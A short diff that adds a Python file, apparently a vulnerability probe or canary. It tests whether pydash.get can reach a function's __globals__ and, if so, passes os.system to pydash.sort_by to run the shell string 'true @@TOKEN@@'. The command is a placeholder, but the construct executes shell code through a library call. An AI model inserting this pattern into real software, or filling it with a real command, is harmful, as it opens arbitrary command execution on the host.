@@ -1,0 +1,13 @@
+import os
+
+import pydash
+
+def flawed():
+    try:
+        return isinstance(pydash.get(flawed, "__globals__"), dict)
+    except Exception:
+        return False
+
+
+if flawed():
+    pydash.sort_by(["true @@TOKEN@@"], os.system)
